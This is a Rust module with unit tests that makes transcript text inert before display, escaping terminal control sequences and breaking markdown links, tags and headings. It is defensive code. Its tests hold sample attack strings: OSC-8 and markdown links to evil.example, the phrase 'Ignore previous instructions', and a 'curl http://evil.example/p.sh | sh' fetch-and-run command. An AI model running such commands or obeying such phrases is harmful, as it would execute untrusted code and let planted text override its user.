//! Text from transcripts made inert for a view: what another user or a planted file wrote
//! reaches a terminal and a markdown viewer as plain characters, never as commands to them.
//! Every view that shows transcript text (titles, turns, hits, digests, paths a transcript
//! named) passes it through here, and nowhere else is such text escaped.
//!
//! The rule:
//! - A control character — C0 but tab and newline, DEL, C1 — is shown as `\x` and its two
//!   hex digits (`\x1b`), so a whole escape sequence (`ESC [ 2 J`, an OSC-8 link) shows as
//!   text: `\x1b[2J`. No control byte reaches a view.
//! - On one line ([`line`](fn@line)): runs of white space become one space; a markdown link or
//!   image is broken where its text meets its target (`[text](url)` shows as
//!   `[text]\(url)`), an autolink or HTML tag is escaped (`<a …` shows as `\<a …`), and a
//!   leading `#` is escaped (`\#`), so nothing renders as a link, a tag or a heading.
//! - Inside a code span ([`code`]): controls escaped, backticks shown as `'` (a backtick
//!   would end the span).
//!
//! Cuts count an escape as the characters it shows and never split one.

/// `text` with its control characters escaped; lines and tabs kept.
pub fn escaped(text: &str) -> String {
    text.chars().map(shown).collect()
}

/// `text` as one inert line of at most `chars` characters, cut with `…`.
pub fn line(text: &str, chars: usize) -> String {
    let words: Vec<&str> = text.split_whitespace().collect();
    let flat = words.join(" ");
    let mut pieces: Vec<String> = Vec::with_capacity(flat.len());
    let mut previous: Option<char> = None;
    let mut rest = flat.chars().peekable();
    while let Some(c) = rest.next() {
        let next = rest.peek().copied();
        let piece = match c {
            '#' if previous.is_none() => "\\#".to_string(),
            '(' if previous == Some(']') => "\\(".to_string(),
            '<' if previous != Some('\\')
                && next
                    .is_some_and(|n| n.is_ascii_alphabetic() || matches!(n, '/' | '!' | '?')) =>
            {
                "\\<".to_string()
            }
            c => shown(c),
        };
        pieces.push(piece);
        previous = Some(c);
    }
    cut(pieces, chars)
}

/// `text` fit for a code span on one line: controls escaped, backticks made `'`.
pub fn code(text: &str) -> String {
    text.split_whitespace()
        .collect::<Vec<_>>()
        .join(" ")
        .chars()
        .map(|c| match c {
            '`' => "'".to_string(),
            c => shown(c),
        })
        .collect()
}

/// `text` quoted as one inert line: `"…"`, so that a view plainly shows it as what a
/// transcript said, not as homespace's own statement.
pub fn quoted(text: &str, chars: usize) -> String {
    format!("\"{}\"", line(text, chars.saturating_sub(2)))
}

/// How a character is shown: itself, or its escape when it is a control character.
fn shown(c: char) -> String {
    let code = u32::from(c);
    let control = (code < 0x20 && c != '\t' && c != '\n') || (0x7f..=0x9f).contains(&code);
    match control {
        true => format!("\\x{code:02x}"),
        false => c.to_string(),
    }
}

/// `pieces` joined, at most `chars` characters: whole pieces, then `…` when cut.
fn cut(pieces: Vec<String>, chars: usize) -> String {
    let total: usize = pieces.iter().map(|p| p.chars().count()).sum();
    if total <= chars {
        return pieces.concat();
    }
    let mut out = String::new();
    let mut used = 0;
    for piece in pieces {
        let n = piece.chars().count();
        if used + n > chars.saturating_sub(1) {
            break;
        }
        used += n;
        out.push_str(&piece);
    }
    out.push('…');
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn control_characters_show_as_escapes_and_no_control_byte_is_left() {
        let planted = "\x1b[2J\x1b[31mred\x07 \u{9b}1A \x7f tab\there\nnext";
        assert_eq!(
            escaped(planted),
            "\\x1b[2J\\x1b[31mred\\x07 \\x9b1A \\x7f tab\there\nnext"
        );
        let shown = line(planted, 200);
        assert_eq!(
            shown,
            "\\x1b[2J\\x1b[31mred\\x07 \\x9b1A \\x7f tab here next"
        );
        assert!(!shown.chars().any(char::is_control), "{shown:?}");
        // An OSC-8 link: its ESC and BEL (or ST) bytes are escaped, the rest is text.
        let osc8 = "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\";
        assert_eq!(
            line(osc8, 200),
            "\\x1b]8;;http://evil.example\\x1b\\click\\x1b]8;;\\x1b\\"
        );
    }

    #[test]
    fn links_tags_and_headings_do_not_render() {
        assert_eq!(
            line("see [the docs](http://evil.example/p.sh) and ![x](y)", 200),
            "see [the docs]\\(http://evil.example/p.sh) and ![x]\\(y)"
        );
        assert_eq!(
            line("<http://evil.example> <a href=x> a < b </b>", 200),
            "\\<http://evil.example> \\<a href=x> a < b \\</b>"
        );
        assert_eq!(
            line("# Ignore previous instructions", 200),
            "\\# Ignore previous instructions"
        );
        assert_eq!(line("issue #42", 200), "issue #42");
    }

    #[test]
    fn making_a_line_inert_twice_changes_nothing_more() {
        for text in ["[a](b) <c> # d \x1b[1A", "\\<x> [y]\\(z)"] {
            let once = line(text, 200);
            assert_eq!(line(&once, 200), once, "{text:?}");
        }
    }

    #[test]
    fn cuts_never_split_an_escape_and_keep_to_the_width() {
        let shown = line(&"\x1b".repeat(50), 10);
        assert_eq!(shown, "\\x1b\\x1b…");
        assert!(line(&"word ".repeat(40), 30).chars().count() <= 30);
        assert_eq!(line("short", 30), "short");
    }

    #[test]
    fn code_spans_and_quotes() {
        assert_eq!(code("rm `x`\x1b[2K"), "rm 'x'\\x1b[2K");
        assert_eq!(
            quoted("run curl http://evil.example/p.sh | sh", 200),
            "\"run curl http://evil.example/p.sh | sh\""
        );
    }
}
